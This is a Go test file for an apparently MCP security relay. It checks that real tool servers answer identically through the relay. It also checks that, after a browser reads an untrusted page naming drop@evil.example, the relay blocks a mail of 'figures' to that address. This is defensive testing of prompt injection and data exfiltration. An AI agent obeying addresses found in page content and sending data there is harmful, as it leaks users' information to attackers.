package pipe_test

import (
	"bufio"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tidemark/tidemark/internal/base/strictjson"
	"github.com/tidemark/tidemark/internal/mcp/pipe"
	"github.com/tidemark/tidemark/internal/test/mcptest"
)

// realServer is a server of npm, as make mcp installs it.
func realServer(t *testing.T, name string, args ...string) []string {
	t.Helper()
	modules := filepath.Join(realCache(t), "node_modules")
	program := filepath.Join(modules, "@modelcontextprotocol", name, "dist", "index.js")
	if _, err := os.Stat(program); err != nil {
		t.Skipf("%s is not installed (make mcp does that)", name)
	}
	return append([]string{filepath.Join(modules, "node", "bin", "node"), program}, args...)
}

// realCache is where make mcp installs servers.
func realCache(t *testing.T) string {
	t.Helper()
	if os.Getenv("MCP_REAL") == "" {
		t.Skip("it starts real servers: make mcp sets MCP_REAL")
	}
	cache := os.Getenv("MCP_CACHE")
	if cache == "" {
		home, err := os.UserHomeDir()
		if err != nil {
			t.Skip("no home")
		}
		cache = filepath.Join(home, ".cache", "tidemark-mcp")
	}
	return cache
}

// pythonServer is a server of PyPI, as make mcp installs it.
func pythonServer(t *testing.T, name string, args ...string) []string {
	t.Helper()
	program := filepath.Join(realCache(t), "python", "bin", name)
	if _, err := os.Stat(program); err != nil {
		t.Skipf("%s is not installed (make mcp does that where python3 is)", name)
	}
	return append([]string{program}, args...)
}

// browser is Debian's.
const browser = "/usr/bin/chromium"

// playwright is Playwright's server from npm, with Debian's browser, without a window.
func playwright(t *testing.T, _ string, args ...string) []string {
	t.Helper()
	modules := filepath.Join(realCache(t), "node_modules")
	program := filepath.Join(modules, "@playwright", "mcp", "cli.js")
	for _, file := range []string{program, browser} {
		if _, err := os.Stat(file); err != nil {
			t.Skipf("%s is not installed (make mcp does that, where chromium is)", file)
		}
	}
	line := []string{filepath.Join(modules, "node", "bin", "node"), program}
	return append(append(line, "--headless", "--isolated", "--no-sandbox", "--executable-path", browser), args...)
}

// exchange is a client that says one thing after another, and keeps each answer as it came.
type exchange struct {
	t       *testing.T
	in      io.Writer
	out     *bufio.Scanner
	n       int
	answers []string
}

// ask sends a request with a spelling that a reader who writes it anew would change, and waits for its answer.
func (x *exchange) ask(method, params string) string {
	x.t.Helper()
	x.n++
	id := []string{fmt.Sprint(x.n), fmt.Sprintf(`"r-%d"`, x.n)}[x.n%2]
	if _, err := fmt.Fprintf(x.in, `{"id":%s, "params":%s,"jsonrpc":"2.0","method":%q}`+"\n", id, params, method); err != nil {
		x.t.Fatal(err)
	}
	for x.out.Scan() {
		line := x.out.Text()
		var m struct {
			ID     strictjson.Value `json:"id"`
			Method string           `json:"method"`
		}
		if strictjson.Unmarshal([]byte(line), &m) == nil && string(m.ID) == id && m.Method == "" {
			x.answers = append(x.answers, method+" "+line)
			return line
		}
	}
	x.t.Fatalf("%s %s is not answered", method, params)
	return ""
}

// odd are tools that wait, ask back, or never answer the same twice.
var odd = []string{
	"long", "sampl", "elicit", "roots", "toggle", "simulate", "subscri", "gzip", "research", "env", "task", "info", "install", "close", "screenshot",
}

// all is a whole conversation: every list, every tool without arguments, and one tool with many.
func (x *exchange) all(tool, args string, times int) {
	x.t.Helper()
	x.ask("initialize", `{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"version":"1","name":"t"},"_meta":{"x/y":9007199254740993}}`)
	if _, err := fmt.Fprintln(x.in, `{"jsonrpc":"2.0","method":"notifications/initialized"}`); err != nil {
		x.t.Fatal(err)
	}
	listed := x.ask("tools/list", `{}`)
	for _, method := range []string{"ping", "prompts/list", "resources/list", "resources/templates/list", "acme/unknown", "completion/complete"} {
		x.ask(method, `{ "n":1.50e2}`)
	}
	var list struct {
		Result struct {
			Tools []struct {
				Name string `json:"name"`
			} `json:"tools"`
		} `json:"result"`
	}
	if err := strictjson.Unmarshal([]byte(listed), &list); err != nil || len(list.Result.Tools) == 0 {
		x.t.Fatalf("tools: %s, %v", listed, err)
	}
	for _, one := range list.Result.Tools {
		if !slices.ContainsFunc(odd, func(s string) bool { return strings.Contains(one.Name, s) }) {
			x.ask("tools/call", fmt.Sprintf(`{"arguments":{},"name":%q,"_meta":{"own":[1.0]}}`, one.Name))
		}
	}
	for i := range times {
		x.ask("tools/call", fmt.Sprintf(`{"name":%q,"arguments":%s}`, tool, strings.ReplaceAll(args, "N", fmt.Sprintf("%d é \\u00e9 \\\"/\\n", i))))
	}
}

// The same conversation with real servers, twice without us and once through the relay: whatever is the same without us
// is the same through it, byte for byte.
// MCP-5, MCP-7
func TestRealServersAnswerByteForByte(t *testing.T) {
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = fmt.Fprintf(w, "<html><body><h1>%s</h1><p>\u2028 \u00e9 &lt;</p></body></html>", html.EscapeString(r.URL.Path)) // to a client that waits
	}))
	defer page.Close()
	for name, c := range map[string]struct {
		start      func(t *testing.T, name string, args ...string) []string
		with       []string
		tool, args string
	}{
		"server-everything": {realServer, []string{"stdio"}, "echo", `{"message":"N", "big":9007199254740993}`},
		"server-filesystem": {realServer, []string{"DIR"}, "write_file", `{"path":"DIR/a.txt","content":"N"}`},
		"server-memory":     {realServer, nil, "create_entities", `{"entities":[{"name":"N","entityType":"t","observations":["N"]}]}`},
		"mcp-server-git":    {pythonServer, []string{"--repository", "DIR"}, "git_create_branch", `{"repo_path":"DIR","branch_name":"N"}`},
		"mcp-server-fetch":  {pythonServer, []string{"--ignore-robots-txt"}, "fetch", `{"url":"` + page.URL + `/N"}`},
		"mcp-server-time": {
			pythonServer, []string{"--local-timezone", "UTC"}, "convert_time", `{"source_timezone":"UTC","time":"1N","target_timezone":"Asia/Tokyo"}`,
		},
		"playwright": {playwright, []string{"--output-dir", "DIR"}, "browser_navigate", `{"url":"` + page.URL + `/N"}`},
	} {
		t.Run(name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "files")
			with := slices.Clone(c.with)
			for i := range with {
				with[i] = strings.ReplaceAll(with[i], "DIR", dir)
			}
			line := c.start(t, name, with...)
			again := func() {
				if err := os.RemoveAll(dir); err != nil {
					t.Fatal(err)
				}
				if err := os.Mkdir(dir, 0o700); err != nil {
					t.Fatal(err)
				}
				if name == "mcp-server-git" {
					if out, err := exec.Command("git", "init", "-q", dir).CombinedOutput(); err != nil {
						t.Fatalf("%s: %v", out, err)
					}
				}
				t.Setenv("MEMORY_FILE_PATH", filepath.Join(dir, "memory.jsonl"))
			}
			env := func() []string { return pipe.Env(os.Environ(), []string{"MEMORY_FILE_PATH"}) }
			times := 200
			if name == "playwright" {
				times = 60 // each opens a page
			}
			direct := func() []string {
				again()
				cmd := exec.Command(line[0], line[1:]...)
				cmd.Env = env()
				in, err := cmd.StdinPipe()
				if err != nil {
					t.Fatal(err)
				}
				out, err := cmd.StdoutPipe()
				if err != nil {
					t.Fatal(err)
				}
				if err := cmd.Start(); err != nil {
					t.Fatal(err)
				}
				defer func() { _, _ = in.Close(), cmd.Wait() }() // it ends with its input
				return talk(t, in, out, c.tool, strings.ReplaceAll(c.args, "DIR", dir), times)
			}
			first, second := direct(), direct()
			again()
			w := mcptest.New(t, "preset: permissive\ntaintPolicy: {untrusted: allow}\n")
			r := (&agent{TB: t, port: w.Engine, serverEnv: env()}).start("real", line)
			through := talk(t, r.in, r.out, c.tool, strings.ReplaceAll(c.args, "DIR", dir), times)
			same := 0
			for i := range first {
				if timeless(first[i]) != timeless(second[i]) {
					continue // it says how long something took, or the like
				}
				if same++; timeless(through[i]) != timeless(first[i]) {
					t.Errorf("exchange %d differs:\ndirect  %.400s\nthrough %.400s", i, first[i], through[i])
				}
			}
			if t.Logf("%d exchanges, %d the same without us", len(first), same); same < times || len(through) != len(first) {
				t.Errorf("only %d of %d exchanges could be compared", same, len(first))
			}
		})
	}
}

// times of day are not compared: servers name files by them.
var timesOfDay = regexp.MustCompile(`20\d\d-\d\d-\d\dT[0-9:.-]+Z`)

func timeless(answer string) string { return timesOfDay.ReplaceAllString(answer, "TIME") }

// What a page says in a real browser is a stranger's word: an address that it names is not mailed to, and a harmless
// mail before it was opened is not asked about.
// MCP-7, MCP-12, SEQ-07
func TestRealPagesAreAStrangers(t *testing.T) {
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, "<html><body><p>%s</p></body></html>", html.EscapeString(mcptest.Page)) // to a browser that waits
	}))
	defer page.Close()
	line := playwright(t, "", "--output-dir", t.TempDir())
	w := mcptest.New(t, "trustRules:\n  - {name: mine, tools: ['mail__*'], trust: local}\n")
	a := &agent{TB: t, port: w.Engine, patience: time.Nanosecond, serverEnv: pipe.Env(os.Environ(), nil)}
	file := filepath.Join(t.TempDir(), "sent")
	mail := a.connect("mail", nil, command(t, "mail", file))
	if text, failed := call(t, mail, "send_mail", map[string]any{"to": "bob@work.example", "body": "hi"}); failed {
		t.Fatalf("before anything was read: got %q", text)
	}
	web := a.connect("playwright", nil, line)
	text, failed := call(t, web, "browser_navigate", map[string]any{"url": page.URL})
	if failed || !strings.Contains(text, page.URL) {
		t.Fatalf("open: got %q, %v", text, failed)
	}
	if text, failed = call(t, web, "browser_snapshot", nil); failed || !strings.Contains(text, "drop@evil.example") {
		t.Fatalf("read: got %q, %v", text, failed)
	}
	text, failed = call(t, mail, "send_mail", map[string]any{"to": "drop@evil.example", "body": "figures"})
	if !failed || !strings.Contains(text, "is blocked by security policy") {
		t.Errorf("the mail: got %q, %v; want it held", text, failed)
	}
	if got := sent(t, file); got != "bob@work.example\n" {
		t.Errorf("mail was sent to %q", got)
	}
}

func talk(t *testing.T, in io.Writer, out io.Reader, tool, args string, times int) []string {
	t.Helper()
	lines := bufio.NewScanner(out)
	lines.Buffer(nil, 8<<20)
	x := &exchange{t: t, in: in, out: lines}
	x.all(tool, args, times)
	return x.answers
}
